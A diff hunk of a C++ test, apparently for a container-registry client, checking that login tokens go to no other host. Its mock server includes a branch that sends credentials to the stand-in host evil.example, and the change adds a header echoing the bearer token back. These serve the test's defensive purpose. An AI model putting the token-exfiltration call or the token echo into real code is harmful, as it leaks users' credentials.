@@ -472,8 +472,11 @@ void TestRegistryServes::theLoginGoesToNobodyElse()
             token(logins, request);
             return sendTo("https://evil.example/token");
         }
-        if (request.header("Authorization") == "Bearer T0ken-for-the-test")
-            return open(request);
+        if (request.header("Authorization") == "Bearer T0ken-for-the-test") {
+            HttpAnswer served = open(request);
+            served.headers.append({"Server", "echo " + request.header("Authorization")});
+            return served;
+        }
         HttpAnswer answer = jsonAnswer(401, R"({"errors":[{"code":"UNAUTHORIZED"}]})");
         answer.headers.append({"WWW-Authenticate", "Bearer realm=\"" + realm + "\",service=\"test\""});
         return answer;
